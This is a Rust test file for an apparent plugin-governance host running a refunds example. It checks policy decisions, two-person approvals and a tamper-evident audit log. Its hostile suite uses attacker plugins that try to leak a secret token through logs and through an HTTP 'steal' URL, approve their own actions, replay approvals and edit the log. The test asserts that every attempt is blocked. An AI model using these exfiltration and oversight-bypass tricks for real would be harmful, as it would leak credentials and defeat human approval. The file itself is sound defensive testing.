//! Enforcement point 3: every call decided, recorded, and — where policy
//! says so — held for people. The hostile suite ends with zero
//! unauthorized actions executed and every attempt in the audit log.

use std::path::Path;

use charter_audit::{Event, read_records};
use charter_config::Deployment;
use charter_runtime::proposals::ProposalError;
use charter_runtime::{CallError, Host, HostOptions, LoadError};
use charter_store::Store;
use serde_json::json;

use crate::support::*;

/// The refunds example deployment, with its data in `dir`.
pub(crate) fn refunds(dir: &Path, extra: &str) -> Deployment {
    let src = root().join("examples/refunds/charter.toml");
    let text = std::fs::read_to_string(&src).unwrap() + extra;
    let mut d = Deployment::parse(&text, &src, charter_runtime::host_catalog())
        .unwrap_or_else(|e| panic!("{e}"));
    d.data_dir = dir.join("data");
    d
}

fn fixture_plugin(name: &str, fx: &str, groups: &[&str], owner: &str) -> String {
    let groups: Vec<String> = groups.iter().map(|g| format!("\"{g}\"")).collect();
    format!(
        "\n[plugins.{name}]\npath = \"{}\"\ngroups = [{}]\nowner = \"{owner}\"\n",
        fixture(fx).display(),
        groups.join(", ")
    )
}

fn refund(order: &str, cents: u64) -> String {
    json!({"order_id": order, "amount_cents": cents, "reason": "damaged in transit"}).to_string()
}

fn events(host: &Host) -> Vec<Event> {
    read_records(host.log().path())
        .unwrap()
        .into_iter()
        .map(|r| r.event)
        .collect()
}

fn proposal_of(e: &CallError) -> String {
    match e {
        CallError::AwaitingApproval { proposal, .. } => proposal.clone(),
        other => panic!("expected a proposal, got {other}"),
    }
}

#[test]
fn refund_example_runs_proposes_and_denies() {
    let dir = tempfile::tempdir().unwrap();
    let host = Host::new(refunds(dir.path(), ""), HostOptions::default()).unwrap();
    let rt = rt();

    // 50 USD: allowed by policy, executed through the connector.
    let out = rt
        .block_on(host.call_as("refund-bot", &refund("A-1", 5_000), Some("alice")))
        .unwrap();
    assert_eq!(out.output["refund_id"], "R-A-1-5000");

    // 2,000 USD: a proposal; nothing executes until a second person approves.
    let err = rt
        .block_on(host.call_as("refund-bot", &refund("A-2", 200_000), Some("alice")))
        .unwrap_err();
    // Waiting for people (4), not refused (2).
    assert_eq!(err.exit_code(), 4);
    let id = proposal_of(&err);
    let p = host.proposal(&id).unwrap();
    assert_eq!(p.status, "pending");
    assert_eq!(p.args["amount-cents"], 200_000);
    assert!(
        p.rationale
            .as_deref()
            .unwrap()
            .contains("refund of 200000 cents recommended")
    );
    assert_eq!(
        host.store().get("payments", "refund:A-2").unwrap(),
        None,
        "executed before approval"
    );
    let self_approval = rt
        .block_on(host.decide(&id, "alice", true, None))
        .unwrap_err();
    assert!(
        matches!(self_approval, ProposalError::Refused { .. }),
        "{self_approval}"
    );
    let done = rt
        .block_on(host.decide(&id, "bob", true, Some("checked".into())))
        .unwrap();
    assert_eq!(done.outcome, "executed");
    assert_eq!(done.result.unwrap(), json!([{"ok": "R-A-2-200000"}]));
    assert_eq!(
        host.store()
            .get("payments", "refund:A-2")
            .unwrap()
            .as_deref(),
        Some("R-A-2-200000")
    );

    // 10,000 USD: denied, never reaches the connector.
    let err = rt
        .block_on(host.call_as("refund-bot", &refund("A-3", 1_000_000), Some("alice")))
        .unwrap_err();
    assert!(matches!(err, CallError::Denied { .. }), "{err}");
    assert_eq!(host.store().get("payments", "refund:A-3").unwrap(), None);

    // All three in the audit log, and in the KPIs.
    let evs = events(&host);
    let decisions: Vec<_> = evs
        .iter()
        .filter_map(|e| match e {
            Event::Call {
                plugin,
                decision,
                args,
                ..
            } if plugin == "refund-bot" => Some((
                args["order-id"].as_str().unwrap().to_string(),
                decision.to_string(),
            )),
            _ => None,
        })
        .collect();
    assert_eq!(
        decisions,
        [
            ("A-1", "allow"),
            ("A-2", "propose"),
            ("A-2", "allow"),
            ("A-3", "deny")
        ]
        .map(|(a, b)| (a.to_string(), b.to_string()))
    );
    let records = read_records(host.log().path()).unwrap();
    let k = charter_runtime::kpi::compute(&records);
    assert_eq!(
        k.unauthorized_actions_executed, 0,
        "{:?}",
        k.unauthorized_detail
    );
    let c = &k.calls["refund-bot"]["acme:payments/refunds@0.1.0#issue-refund"];
    assert_eq!((c.allowed, c.proposed, c.denied), (2, 1, 1));
    assert_eq!(k.proposals.executed, 1);
    assert_eq!(k.proposals.acceptance_rate, Some(1.0));
}

#[test]
fn hostile_suite_executes_nothing_unauthorized() {
    let dir = tempfile::tempdir().unwrap();
    let token = dir.path().join("token");
    std::fs::write(&token, "tok-9f8e7d6c5b4a").unwrap();
    let (port, hits) = rt().block_on(crate::http::server());
    let extra = format!(
        "{}{}{}{}
[groups.kv-read]
capabilities = [\"charter:host/kv.get\"]
[groups.token]
capabilities = [\"charter:host/secrets.get\"]
secrets = [\"api-token\"]
[secrets.api-token]
file = \"{}\"
[groups.web]
capabilities = [\"wasi:http/outgoing-handler.handle\"]
allow_hosts = [\"127.0.0.1:{port}\"]
[groups.slow-refunds]
capabilities = [\"acme:payments/refunds.issue-refund\"]
effect = \"write\"
policy_file = \"refunds.cedar\"
proposal_expiry_hours = 0
[groups.two-person-refunds]
capabilities = [\"acme:payments/refunds.issue-refund\"]
effect = \"write\"
policy_file = \"refunds.cedar\"
approvals = 2
",
        fixture_plugin("voider", "fx-void-refunds", &["refunds"], "mallory"),
        fixture_plugin("snoop", "fx-echo", &["ledger", "logging"], "mallory"),
        fixture_plugin("leaker", "fx-secret", &["token", "logging"], "mallory"),
        fixture_plugin("fetcher", "fx-http", &["web"], "mallory")
            + &fixture_plugin(
                "slow-bot",
                "refund-bot",
                &["slow-refunds", "explain", "logging"],
                "alice"
            )
            + &fixture_plugin(
                "careful-bot",
                "refund-bot",
                &["two-person-refunds", "explain", "logging"],
                "alice"
            ),
        token.display(),
    );
    let host = Host::new(refunds(dir.path(), &extra), HostOptions::default()).unwrap();
    let rt = rt();
    let mut attempts = 0;

    // 1. An ungranted connector function: refused at load, nothing runs.
    let err = rt.block_on(host.call("voider", "{}")).unwrap_err();
    assert!(
        matches!(err, CallError::Load(LoadError::Ungranted(_))),
        "{err}"
    );
    assert!(
        err.to_string()
            .contains("acme:payments/refunds@0.1.0#void-all-refunds is not granted"),
        "{err}"
    );
    attempts += 1;

    // Legitimate refund so there is something to protect.
    rt.block_on(host.call_as("refund-bot", &refund("A-1", 5_000), Some("alice")))
        .unwrap();

    // 2. An argument over its limit: denied by policy.
    let err = rt
        .block_on(host.call_as("refund-bot", &refund("A-9", 900_000), Some("alice")))
        .unwrap_err();
    assert!(matches!(err, CallError::Denied { .. }), "{err}");
    attempts += 1;

    // 3. A forbidden argument (test order), even small: forbid wins.
    let err = rt
        .block_on(host.call_as("refund-bot", &refund("TEST-1", 100), Some("alice")))
        .unwrap_err();
    assert!(
        err.to_string()
            .contains("forbidden by refunds/no-refunds-on-test-orders"),
        "{err}"
    );
    attempts += 1;

    // 4. Reaching the connector around the mediator: its ledger is in its
    //    own namespace; another plugin's kv sees nothing of it.
    let out = rt
        .block_on(host.call("snoop", r#"{"kv_get": "refund:A-1"}"#))
        .unwrap();
    assert_eq!(out.output["kv"], serde_json::Value::Null);
    attempts += 1;

    // 5. Exfiltrating a secret through the log: redacted.
    let out = rt
        .block_on(host.call("leaker", r#"{"name": "api-token", "leak": true}"#))
        .unwrap();
    assert!(
        out.logs
            .iter()
            .all(|l| !l.message.contains("tok-9f8e7d6c5b4a")),
        "{:?}",
        out.logs
    );
    assert!(
        out.logs
            .iter()
            .any(|l| l.message.contains("[secret:api-token]")),
        "{:?}",
        out.logs
    );
    attempts += 1;

    // 6. Exfiltrating through HTTP to a host not allowed: denied, not sent.
    let err = rt
        .block_on(host.call(
            "fetcher",
            r#"{"url": "http://localhost:9/steal?t=tok-9f8e7d6c5b4a"}"#,
        ))
        .unwrap_err();
    assert!(matches!(err, CallError::Denied { .. }), "{err}");
    assert_eq!(hits.load(std::sync::atomic::Ordering::SeqCst), 0);
    attempts += 1;

    // 7. Self-approval (the plugin's owner, who also started the work).
    let id = proposal_of(
        &rt.block_on(host.call_as("refund-bot", &refund("A-2", 200_000), Some("alice")))
            .unwrap_err(),
    );
    // alice holds the approver role, but owns the plugin and started the work.
    assert!(matches!(
        rt.block_on(host.decide(&id, "alice", true, None)),
        Err(ProposalError::Refused {
            rule: "separation-of-duties",
            ..
        })
    ));
    attempts += 1;

    // 8. Approval by someone without the role.
    assert!(matches!(
        rt.block_on(host.decide(&id, "dave", true, None)),
        Err(ProposalError::Refused { .. })
    ));
    attempts += 1;

    // A legitimate approval executes exactly the proposed arguments.
    rt.block_on(host.decide(&id, "bob", true, None)).unwrap();

    // 9. Replaying the approval: the executed proposal cannot be approved
    //    again, and other arguments make a new proposal that nobody approved.
    assert!(matches!(
        rt.block_on(host.decide(&id, "carol", true, None)),
        Err(ProposalError::Refused { .. })
    ));
    let other = proposal_of(
        &rt.block_on(host.call_as("refund-bot", &refund("A-2", 250_000), Some("alice")))
            .unwrap_err(),
    );
    assert_ne!(other, id);
    assert_eq!(host.proposal(&other).unwrap().status, "pending");
    assert_eq!(
        host.store()
            .get("payments", "refund:A-2")
            .unwrap()
            .as_deref(),
        Some("R-A-2-200000")
    );
    attempts += 1;

    // 10. Approving an expired proposal (this group's proposals expire at once).
    let stale = proposal_of(
        &rt.block_on(host.call_as("slow-bot", &refund("A-5", 200_000), Some("alice")))
            .unwrap_err(),
    );
    let err = rt
        .block_on(host.decide(&stale, "bob", true, None))
        .unwrap_err();
    assert!(err.to_string().contains("expired"), "{err}");
    assert_eq!(host.proposal(&stale).unwrap().status, "expired");
    attempts += 1;

    // 11. N-of-M: the same person approving twice counts once.
    let two = proposal_of(
        &rt.block_on(host.call_as("careful-bot", &refund("A-6", 200_000), Some("alice")))
            .unwrap_err(),
    );
    assert_eq!(
        rt.block_on(host.decide(&two, "bob", true, None))
            .unwrap()
            .outcome,
        "approved (1 of 2 approvals)"
    );
    assert!(matches!(
        rt.block_on(host.decide(&two, "bob", true, None)),
        Err(ProposalError::Refused { .. })
    ));
    assert_eq!(host.store().get("payments", "refund:A-6").unwrap(), None);
    assert_eq!(
        rt.block_on(host.decide(&two, "carol", true, None))
            .unwrap()
            .outcome,
        "executed"
    );
    attempts += 1;

    // Only the three legitimate refunds reached the ledger.
    let ledger = host.store().list("payments", "refund:").unwrap();
    assert_eq!(ledger, ["refund:A-1", "refund:A-2", "refund:A-6"]);

    // Every attempt is visible, and nothing unauthorized executed.
    let records = read_records(host.log().path()).unwrap();
    let k = charter_runtime::kpi::compute(&records);
    assert_eq!(
        k.unauthorized_actions_executed, 0,
        "{:?}",
        k.unauthorized_detail
    );
    assert!(k.blocked_unauthorized_attempts >= 9, "{k:?}");
    let raw = std::fs::read(host.log().path()).unwrap();
    assert!(
        !String::from_utf8_lossy(&raw).contains("tok-9f8e7d6c5b4a"),
        "secret in the audit log"
    );
    let evs = events(&host);
    assert!(
        evs.iter()
            .any(|e| matches!(e, Event::PluginRefused { plugin, .. } if plugin == "voider"))
    );
    let refused_approvals = evs
        .iter()
        .filter(|e| {
            matches!(
                e,
                Event::ApprovalDecision {
                    accepted: false,
                    ..
                }
            )
        })
        .count();
    assert_eq!(
        refused_approvals, 5,
        "self, role, replay, expired, duplicate"
    );
    assert!(evs.iter().any(|e| matches!(e, Event::Call { function, decision: charter_audit::Decision::Deny, .. } if function.starts_with("wasi:http"))));
    drop(host);

    // 12. Editing the log file: verify catches it, and the host refuses to
    //     append after a damaged chain.
    let log = dir.path().join("data/events.log");
    let mut bytes = std::fs::read(&log).unwrap();
    let at = bytes.len() / 2;
    bytes[at] ^= 0x20;
    std::fs::write(&log, &bytes).unwrap();
    assert!(!charter_audit::verify(&log).unwrap().ok());
    assert!(Host::new(refunds(dir.path(), &extra), HostOptions::default()).is_err());
    attempts += 1;
    assert!(attempts >= 10);
}

#[test]
fn audit_verify_detects_random_mutations() {
    let dir = tempfile::tempdir().unwrap();
    let host = Host::new(refunds(dir.path(), ""), HostOptions::default()).unwrap();
    let rt = rt();
    for i in 0..20 {
        let _ = rt.block_on(host.call_as(
            "refund-bot",
            &refund(&format!("M-{i}"), 1_000 + i),
            Some("alice"),
        ));
    }
    let data = dir.path().join("data");
    drop(host);
    let log = data.join("events.log");
    let clean = std::fs::read(&log).unwrap();
    assert!(charter_audit::verify(&log).unwrap().ok());
    let cp = charter_audit::checkpoint::create(&data, "acme-refunds", &log).unwrap();
    assert_eq!(charter_audit::checkpoint::check(&cp, &log).unwrap(), None);

    // Frame boundaries, to delete, swap and insert whole entries.
    let mut bounds = vec![charter_audit::LOG_MAGIC.len()];
    while *bounds.last().unwrap() < clean.len() {
        let at = *bounds.last().unwrap();
        let len = u32::from_le_bytes(clean[at..at + 4].try_into().unwrap()) as usize;
        bounds.push(at + charter_audit::FRAME_HEADER_LEN + len + 32);
    }
    let frames = bounds.len() - 1;
    assert!(frames >= 50, "{frames} frames");
    let frame = |i: usize| clean[bounds[i]..bounds[i + 1]].to_vec();

    let mut seed = 0x9E3779B97F4A7C15u64;
    let mut rnd = |n: usize| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        (seed % n as u64) as usize
    };
    let mut kinds = std::collections::BTreeMap::<&str, usize>::new();
    let total = 1200;
    for m in 0..total {
        let mut b = clean.clone();
        let kind = match m % 6 {
            0 => {
                let i = rnd(b.len());
                b[i] ^= 1 << rnd(8);
                "byte flip"
            }
            1 => {
                let i = rnd(frames);
                b.drain(bounds[i]..bounds[i + 1]);
                "entry deleted"
            }
            2 => {
                let i = rnd(frames - 1);
                let (x, y) = (frame(i), frame(i + 1));
                let mut s = clean[..bounds[i]].to_vec();
                s.extend(y);
                s.extend(x);
                s.extend(&clean[bounds[i + 2]..]);
                b = s;
                "entries swapped"
            }
            3 => {
                let i = rnd(frames);
                let j = rnd(frames + 1);
                let f = frame(i);
                b.splice(bounds[j]..bounds[j], f);
                "entry inserted"
            }
            4 => {
                let i = rnd(b.len());
                let n = 1 + rnd(64);
                let junk: Vec<u8> = (0..n).map(|_| rnd(256) as u8).collect();
                b.splice(i..i, junk);
                "bytes inserted"
            }
            _ => {
                let cut = bounds[rnd(frames)] + if rnd(2) == 0 { 0 } else { 1 + rnd(30) };
                b.truncate(cut);
                "truncated"
            }
        };
        if b == clean {
            continue;
        }
        std::fs::write(&log, &b).unwrap();
        let v = charter_audit::verify(&log).unwrap();
        let cp_problem = charter_audit::checkpoint::check(&cp, &log).unwrap();
        assert!(
            !v.ok() || cp_problem.is_some(),
            "mutation {m} ({kind}) went undetected"
        );
        *kinds.entry(kind).or_default() += 1;
    }
    let detected: usize = kinds.values().sum();
    eprintln!("all {detected} mutations detected: {kinds:?}");
    assert!(detected >= 1000);
    std::fs::write(&log, &clean).unwrap();
    assert!(charter_audit::verify(&log).unwrap().ok());
}

#[test]
fn losing_the_stores_unsynced_tail_loses_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let rt = rt();
    let backup = dir.path().join("state-backup");
    {
        let host = Host::new(refunds(dir.path(), ""), HostOptions::default()).unwrap();
        rt.block_on(host.call_as("refund-bot", &refund("S-1", 1_000), Some("alice")))
            .unwrap();
        host.store().flush().unwrap();
        drop(host);
    }
    copy_dir(&data.join("state"), &backup);
    let proposal = {
        let host = Host::new(refunds(dir.path(), ""), HostOptions::default()).unwrap();
        rt.block_on(host.call_as("refund-bot", &refund("S-2", 2_000), Some("alice")))
            .unwrap();
        let id = proposal_of(
            &rt.block_on(host.call_as("refund-bot", &refund("S-3", 300_000), Some("alice")))
                .unwrap_err(),
        );
        host.store().flush().unwrap();
        id
    };
    // The store goes back in time: as if its unsynced tail were lost.
    std::fs::remove_dir_all(data.join("state")).unwrap();
    copy_dir(&backup, &data.join("state"));
    {
        let old = charter_store::SledStore::open(&data.join("state")).unwrap();
        assert_eq!(
            old.get("payments", "refund:S-2").unwrap(),
            None,
            "the backup should predate S-2"
        );
    }
    let host = Host::new(refunds(dir.path(), ""), HostOptions::default()).unwrap();
    assert_eq!(
        host.store()
            .get("payments", "refund:S-1")
            .unwrap()
            .as_deref(),
        Some("R-S-1-1000")
    );
    assert_eq!(
        host.store()
            .get("payments", "refund:S-2")
            .unwrap()
            .as_deref(),
        Some("R-S-2-2000")
    );
    let p = host
        .proposal(&proposal)
        .expect("proposal rebuilt from the log");
    assert_eq!(p.status, "pending");
    rt.block_on(host.decide(&proposal, "bob", true, None))
        .unwrap();
    assert_eq!(
        host.store()
            .get("payments", "refund:S-3")
            .unwrap()
            .as_deref(),
        Some("R-S-3-300000")
    );
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        let dest = to.join(e.file_name());
        if e.file_type().unwrap().is_dir() {
            copy_dir(&e.path(), &dest);
        } else {
            std::fs::copy(e.path(), dest).unwrap();
        }
    }
}
